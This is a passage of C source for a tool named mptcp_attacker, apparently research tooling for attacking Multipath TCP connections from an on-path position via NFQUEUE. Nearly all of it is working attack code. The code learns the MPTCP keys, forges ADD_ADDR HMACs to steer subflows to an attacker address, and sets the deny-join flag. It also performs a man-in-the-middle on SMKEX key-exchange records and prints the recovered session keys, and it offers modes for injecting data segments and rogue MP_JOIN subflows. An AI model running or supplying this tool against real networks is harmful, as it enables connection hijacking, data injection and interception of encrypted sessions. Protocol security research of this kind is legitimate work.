	for (int i = 0; i < NSUB; i++)
		if (!conn.sf[i].used) {
			conn.sf[i] = (struct subflow){ .used = true, .caddr = caddr, .cport = cport,
						       .saddr = saddr, .sport = sport };
			return &conn.sf[i];
		}
	return NULL;
}

static void learn_keys(void)
{
	if (conn.keys || !conn.ckey_known || !conn.skey_known)
		return;
	key_sha(conn.ckey, &conn.ctoken, &conn.cidsn);
	key_sha(conn.skey, &conn.stoken, &conn.sidsn);
	conn.c2s.ref = conn.cidsn + 1;
	conn.s2c.ref = conn.sidsn + 1;
	conn.keys = true;
	cnt.keys_learned = 1;
	fprintf(stderr, "mptcp_attacker: keys client %s", hex(conn.ckey, 8));
	fprintf(stderr, " server %s, server token %08x, client IDSN %016llx\n", hex(conn.skey, 8),
		conn.stoken, (unsigned long long)conn.cidsn);
}

/* The ADD_ADDR HMAC, in one of the layouts seen in the wild (bit 0: a zero
 * port is hashed when none is sent, bit 1: the leftmost 64 bits are kept). */
static void add_addr_hmac(int variant, const uint8_t *a, int l, const uint8_t addr[4],
			  uint8_t out[8])
{
	bool port = l == 10 || l == 18;
	uint8_t msg[7], mac[32];
	size_t n = 0;

	msg[n++] = a[3];
	memcpy(msg + n, addr, 4);
	n += 4;
	if (port) {
		memcpy(msg + n, a + 8, 2);
		n += 2;
	} else if (variant & 1) {
		msg[n++] = 0;
		msg[n++] = 0;
	}
	mptcp_hmac(conn.skey, conn.ckey, msg, n, mac);
	memcpy(out, variant & 2 ? mac : mac + 24, 8);
}

/* ADD_ADDR from the server: steer it; its echo from the client: restore it. */
static bool steer(uint8_t *a, int l, bool c2s)
{
	bool echo = a[2] & 1, v4 = l == 8 || l == 10 || l == 16 || l == 18;
	uint8_t id = a[3], mac[8];

	if (!v4 || !conn.keys)
		return false;
	if (!c2s && !echo && l >= 16) {
		static const int order[] = { 1, 3, 0, 2 };
		uint8_t *hm = a + l - 8;

		cnt.add_addr_seen++;
		if (memcmp(a + 4, steer_addr, 4)) {
			memcpy(conn.orig_addr[id], a + 4, 4);
			conn.orig_known[id] = true;
			for (int i = 0; i < 4 && add_addr_variant < 0; i++) {
				add_addr_hmac(order[i], a, l, a + 4, mac);
				if (!memcmp(mac, hm, 8)) {
					add_addr_variant = order[i];
					cnt.add_addr_hmac_verified++;
					fprintf(stderr, "mptcp_attacker: ADD_ADDR HMAC: %s port, %s 64 bits\n",
						order[i] & 1 ? "with" : "without",
						order[i] & 2 ? "leftmost" : "rightmost");
				}
			}
		}
		memcpy(a + 4, steer_addr, 4);
		add_addr_hmac(add_addr_variant < 0 ? 1 : add_addr_variant, a, l, a + 4, hm);
		cnt.add_addr_rewritten++;
		fprintf(stderr, "mptcp_attacker: ADD_ADDR id %u -> %s\n", id,
			inet_ntoa(*(struct in_addr *)steer_addr));
		return true;
	}
	if (c2s && echo && !memcmp(a + 4, steer_addr, 4)) {
		conn.steer_echoed = true;
		if (!conn.orig_known[id])
			return false;
		memcpy(a + 4, conn.orig_addr[id], 4);
		cnt.add_addr_echo_restored++;
		return true;
	}
	return false;
}

static int handle_packet(uint8_t *pkt, size_t len, bool *modified)
{
	struct iphdr *ip = (struct iphdr *)pkt;
	struct tcphdr *th;
	struct subflow *sf;
	struct half *h, *peer;
	struct opts o;
	struct dss d;
	size_t ihl, thl, plen;
	uint8_t flags, *data;
	uint32_t seq;
	bool c2s, have_dss;

	if (len < 40 || ip->version != 4 || ip->protocol != IPPROTO_TCP)
		return NF_ACCEPT;
	ihl = ip->ihl * 4;
	if (ihl < 20 || ntohs(ip->tot_len) > len || ntohs(ip->tot_len) < ihl + 20 ||
	    (ntohs(ip->frag_off) & 0x3fff))
		return NF_ACCEPT;
	len = ntohs(ip->tot_len);
	th = (struct tcphdr *)(pkt + ihl);
	thl = th->doff * 4;
	if (thl < 20 || ihl + thl > len)
		return NF_ACCEPT;
	data = pkt + ihl + thl;
	plen = len - ihl - thl;
	flags = pkt[ihl + 13];
	seq = ntohl(th->seq);
	parse_opts(pkt + ihl + 20, thl - 20, &o);

	if (rogue.state != R_IDLE && ip->daddr == rogue_src && th->dest == rogue.port &&
	    th->source == rogue.dport) {
		rogue_rx(th, flags, &o);
		return NF_DROP;
	}

	sf = conn.active ? find_subflow(ip->saddr, th->source, ip->daddr, th->dest, &c2s) : NULL;
	if (!sf && (flags & (TH_SYN | TH_ACK)) == TH_SYN) {
		if (!conn.active && o.mpc && o.mpc_len == 4 && (o.mpc[2] & 0x0f) == 1) {
			conn.active = true;
			cnt.conn_tracked = 1;
			sf = new_subflow(ip->saddr, th->source, ip->daddr, th->dest);
			c2s = true;
			fprintf(stderr, "mptcp_attacker: following %s:%u ->", inet_ntoa(*(struct in_addr *)&ip->saddr),
				ntohs(th->source));
			fprintf(stderr, " %s:%u\n", inet_ntoa(*(struct in_addr *)&ip->daddr), ntohs(th->dest));
		} else if (conn.keys && o.mpj && o.mpj_len == 12 && get32(o.mpj + 4) == conn.stoken) {
			sf = new_subflow(ip->saddr, th->source, ip->daddr, th->dest);
			c2s = true;
			cnt.join_syn_seen++;
			if (sf)
				sf->c2s.nonce = get32(o.mpj + 8);
			if (opt_steer && (!memcmp(&ip->daddr, steer_addr, 4) ||
					  (conn.steer_echoed && ip->daddr == conn.sf[0].saddr))) {
				cnt.steered_join_syn++;
				fprintf(stderr, "mptcp_attacker: steered MP_JOIN SYN from %s:%u\n",
					inet_ntoa(*(struct in_addr *)&ip->saddr), ntohs(th->source));
			}
		} else if (conn.keys && o.mpj && o.mpj_len == 12 && get32(o.mpj + 4) == conn.ctoken) {
			/* a join from the server: keep the client/server orientation */
			sf = new_subflow(ip->daddr, th->dest, ip->saddr, th->source);
			c2s = false;
			if (sf)
				sf->s2c.nonce = get32(o.mpj + 8);
		}
	}
	if (!sf)
		return NF_ACCEPT;

	h = c2s ? &sf->c2s : &sf->s2c;
	peer = c2s ? &sf->s2c : &sf->c2s;
	if (flags & TH_SYN) {
		h->isn = seq;
		h->isn_known = true;
		h->nxt = seq + 1;
	} else if (h->isn_known && after(seq + plen, h->nxt)) {
		h->nxt = seq + plen;
	}
	if (flags & TH_ACK) {
		h->ack = ntohl(th->ack_seq);
		h->ack_known = true;
	}
	h->win = ntohs(th->window);
	if (o.ts) {
		h->tsval = get32(o.ts + 2);
		h->tsecr = get32(o.ts + 6);
		h->ts_known = true;
	}

	/* MP_CAPABLE: the keys, the C flag, the first mapping */
	if (o.mpc && sf == &conn.sf[0]) {
		if ((flags & (TH_SYN | TH_ACK)) == (TH_SYN | TH_ACK) && !c2s && o.mpc_len == 12) {
			memcpy(conn.skey, o.mpc + 4, 8);
			conn.skey_known = true;
			if (opt_deny) {
				o.mpc[3] |= MPC_DENY_JOIN_ID0;
				*modified = true;
				cnt.c_flag_set++;
			}
		} else if (!(flags & TH_SYN) && c2s && o.mpc_len >= 20) {
			memcpy(conn.ckey, o.mpc + 4, 8);
			conn.ckey_known = true;
			if (!conn.skey_known) {
				memcpy(conn.skey, o.mpc + 12, 8);
				conn.skey_known = true;
			}
			learn_keys();
			if (o.mpc_len >= 22 && plen)
				add_map(h, conn.cidsn + 1, 1, get16(o.mpc + 20));
		}
	}

	/* MP_JOIN SYN/ACK: check that our keys reproduce the server's HMAC */
	if (o.mpj && o.mpj_len == 16 && conn.keys && (flags & TH_SYN) && (flags & TH_ACK)) {
		uint8_t msg[8], mac[32];

		h->nonce = get32(o.mpj + 12);
		put32(msg, h->nonce);
		put32(msg + 4, peer->nonce);
		if (c2s)
			mptcp_hmac(conn.ckey, conn.skey, msg, 8, mac);
		else
			mptcp_hmac(conn.skey, conn.ckey, msg, 8, mac);
		if (!memcmp(mac, o.mpj + 4, 8))
			cnt.join_hmac_verified++;
	}

	/* DSS: the client's data ACK, the mapping of this segment */
	have_dss = o.dss && conn.keys && parse_dss(o.dss, o.dss_len, &d);
	if (have_dss) {
		struct stream *s = c2s ? &conn.c2s : &conn.s2c;

		if (d.ack && c2s) {
			conn.cack = d.ack64 ? d.data_ack : expand32(conn.cack_known ? conn.cack : conn.s2c.ref,
								    (uint32_t)d.data_ack);
			conn.cack_known = true;
		}
		if (d.map) {
			uint64_t dsn = d.dsn64 ? d.dsn : expand32(s->ref, (uint32_t)d.dsn);

			s->ref = dsn;
			add_map(h, dsn, d.ssn, d.len);
		}
	}

	if (o.add && opt_steer && steer(o.add, o.add_len, c2s))
		*modified = true;

	/* SMKEX records, by their place in the MPTCP stream */
	if (opt_mitm && conn.keys && plen && !(flags & TH_SYN)) {
		struct stream *s = c2s ? &conn.c2s : &conn.s2c;
		uint64_t dsn, off;
		uint32_t n;

		if (seg_dsn(h, seq, plen, &dsn, &n)) {
			off = dsn - ((c2s ? conn.cidsn : conn.sidsn) + 1);
			if (off < SMAX) {
				int r;

				stream_feed(s, c2s, off, data, n);
				mitm_update();
				r = mitm_rewrite(s, c2s, off, data, n);
				if (r < 0) {
					fprintf(stderr, "mptcp_attacker: dropping a segment until its record can be rewritten\n");
					return NF_DROP;
				}
				if (r > 0)
					*modified = true;
			}
		}
	}

	if (*modified)
		tcp_csum(ip, th, len - ihl);
	return NF_ACCEPT;
}

/* ---- NFQUEUE plumbing (libmnl API of libnetfilter_queue) ---- */

static struct mnl_socket *nl;
static unsigned int portid;
static uint8_t pkt_buf[65536];

static void send_verdict(uint32_t id, int verdict, const void *pkt, size_t len)
{
	static char buf[NL_BUF];
	struct nlmsghdr *nlh = nfq_nlmsg_put(buf, NFQNL_MSG_VERDICT, queue_num);

	nfq_nlmsg_verdict_put(nlh, id, verdict);
	if (pkt)
		nfq_nlmsg_verdict_put_pkt(nlh, pkt, len);
	if (mnl_socket_sendto(nl, nlh, nlh->nlmsg_len) < 0)
		perror("mptcp_attacker: verdict");
}

static int queue_cb(const struct nlmsghdr *nlh, void *arg)
{
	struct nlattr *attr[NFQA_MAX + 1] = { NULL };
	struct nfqnl_msg_packet_hdr *ph;
	bool modified = false;
	size_t len;
	int verdict;

	(void)arg;
	if (nfq_nlmsg_parse(nlh, attr) < 0 || !attr[NFQA_PACKET_HDR])
		return MNL_CB_OK;
	ph = mnl_attr_get_payload(attr[NFQA_PACKET_HDR]);
	cnt.packets++;
	if (!attr[NFQA_PAYLOAD]) {
		send_verdict(ntohl(ph->packet_id), NF_ACCEPT, NULL, 0);
		return MNL_CB_OK;
	}
	len = mnl_attr_get_payload_len(attr[NFQA_PAYLOAD]);
	if (len > sizeof(pkt_buf))
		len = sizeof(pkt_buf);
	memcpy(pkt_buf, mnl_attr_get_payload(attr[NFQA_PAYLOAD]), len);
	verdict = handle_packet(pkt_buf, len, &modified);
	send_verdict(ntohl(ph->packet_id), verdict, modified ? pkt_buf : NULL, len);
	maybe_act();
	return MNL_CB_OK;
}

/* Sends one configuration message and waits for the kernel's answer. */
static int nfq_config(struct nlmsghdr *nlh)
{
	char buf[8192];
	int n;

	nlh->nlmsg_flags |= NLM_F_ACK;
	if (mnl_socket_sendto(nl, nlh, nlh->nlmsg_len) < 0)
		return -1;
	n = mnl_socket_recvfrom(nl, buf, sizeof(buf));
	if (n < 0)
		return -1;
	return mnl_cb_run(buf, n, 0, portid, NULL, NULL) < 0 ? -1 : 0;
}

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static void usage(void)
{
	fprintf(stderr,
		"usage: mptcp_attacker [--queue N] MODE\n"
		"  --steer-add-addr A.B.C.D [--deny-join-id0] [--mitm]\n"
		"  --rogue-join SRC_ADDR --payload HEX --dsn-offset N [--rst-after] [--when-seen N]\n"
		"               [--rogue-id ID]\n"
		"  --inject-dss --payload HEX --dsn-offset N [--when-seen N]\n"
		"  --self-test\n");
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "queue", required_argument, NULL, 'q' },
		{ "steer-add-addr", required_argument, NULL, 's' },
		{ "deny-join-id0", no_argument, NULL, 'c' },
		{ "mitm", no_argument, NULL, 'm' },
		{ "rogue-join", required_argument, NULL, 'r' },
		{ "rogue-id", required_argument, NULL, 'i' },
		{ "payload", required_argument, NULL, 'p' },
		{ "dsn-offset", required_argument, NULL, 'o' },
		{ "rst-after", no_argument, NULL, 'R' },
		{ "when-seen", required_argument, NULL, 'w' },
		{ "inject-dss", no_argument, NULL, 'd' },
		{ "self-test", no_argument, NULL, 'T' },
		{ NULL, 0, NULL, 0 },
	};
	static char buf[NL_BUF];
	struct sigaction sa = { .sa_handler = on_signal };
	struct nlmsghdr *nlh;
	struct pollfd pfd;
	int opt, modes, one = 1;

	while ((opt = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (opt) {
		case 'q':
			queue_num = atoi(optarg);
			break;
		case 's':
			if (inet_pton(AF_INET, optarg, steer_addr) != 1) {
				fprintf(stderr, "mptcp_attacker: bad address %s\n", optarg);
				return 2;
			}
			opt_steer = true;
			break;
		case 'c':
			opt_deny = true;
			break;
		case 'm':
			opt_mitm = true;
			break;
		case 'r':
			if (inet_pton(AF_INET, optarg, &rogue_src) != 1) {
				fprintf(stderr, "mptcp_attacker: bad address %s\n", optarg);
				return 2;
			}
			opt_rogue = true;
			break;
		case 'i':
			rogue_id = atoi(optarg);
			break;
		case 'p':
			if (parse_hex(optarg, payload, sizeof(payload), &payload_len)) {
				fprintf(stderr, "mptcp_attacker: bad --payload\n");
				return 2;
			}
			break;
		case 'o':
			dsn_offset = strtoull(optarg, NULL, 0);
			break;
		case 'R':
			opt_rst_after = true;
			break;
		case 'w':
			when_seen = strtoull(optarg, NULL, 0);
			break;
		case 'd':
			opt_inject = true;
			break;
		case 'T':
			return self_test();
		default:
			usage();
			return 2;
		}
	}
	modes = opt_steer + opt_rogue + opt_inject;
	if (modes != 1 || ((opt_deny || opt_mitm) && !opt_steer) || (opt_rst_after && !opt_rogue) ||
	    ((opt_rogue || opt_inject) && !payload_len)) {
		usage();
		return 2;
	}
	if (opt_mitm) {
		mitm_kx = x25519_new(NULL, mitm_x);
		mitm_ky = x25519_new(NULL, mitm_y);
		if (!mitm_kx || !mitm_ky) {
			fprintf(stderr, "mptcp_attacker: X25519 key generation failed\n");
			return 1;
		}
	}
	if (opt_rogue || opt_inject) {
		raw_fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
		if (raw_fd < 0) {
			perror("mptcp_attacker: raw socket");
			return 1;
		}
	}
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);

	nl = mnl_socket_open(NETLINK_NETFILTER);
	if (!nl || mnl_socket_bind(nl, 0, MNL_SOCKET_AUTOPID) < 0) {
		perror("mptcp_attacker: netlink");
		return 1;
	}
	portid = mnl_socket_get_portid(nl);
	nlh = nfq_nlmsg_put(buf, NFQNL_MSG_CONFIG, queue_num);
	nfq_nlmsg_cfg_put_cmd(nlh, AF_INET, NFQNL_CFG_CMD_BIND);
	if (nfq_config(nlh) < 0) {
		perror("mptcp_attacker: bind queue");
		return 1;
	}
	nlh = nfq_nlmsg_put(buf, NFQNL_MSG_CONFIG, queue_num);
	nfq_nlmsg_cfg_put_params(nlh, NFQNL_COPY_PACKET, 0xffff);
	if (nfq_config(nlh) < 0) {
		perror("mptcp_attacker: queue mode");
		return 1;
	}
	mnl_socket_setsockopt(nl, NETLINK_NO_ENOBUFS, &one, sizeof(one));
	printf("mptcp_attacker: ready on queue %d\n", queue_num);
	fflush(stdout);

	pfd.fd = mnl_socket_get_fd(nl);
	pfd.events = POLLIN;
	while (!stop) {
		int n = poll(&pfd, 1, 100);

		if (n < 0 && errno != EINTR) {
			perror("mptcp_attacker: poll");
			break;
		}
		if (n > 0) {
			n = mnl_socket_recvfrom(nl, buf, sizeof(buf));
			if (n < 0) {
				if (errno == EINTR || errno == ENOBUFS)
					continue;
				perror("mptcp_attacker: recv");
				break;
			}
			if (mnl_cb_run(buf, n, 0, portid, queue_cb, NULL) < 0 && errno != EINTR)
				perror("mptcp_attacker: netlink message");
		}
		maybe_act();
		rogue_tick();
	}
	mnl_socket_close(nl);
	for (size_t i = 0; i < sizeof(counters) / sizeof(counters[0]); i++)
		printf("%s %lu\n", counters[i].name, *counters[i].value);
	if (ks_client_ok)
		printf("client_side_key %s\n", hex(ks_client.session, 32));
	if (ks_server_ok)
		printf("server_side_key %s\n", hex(ks_server.session, 32));
	EVP_PKEY_free(mitm_kx);
	EVP_PKEY_free(mitm_ky);
	return 0;
}
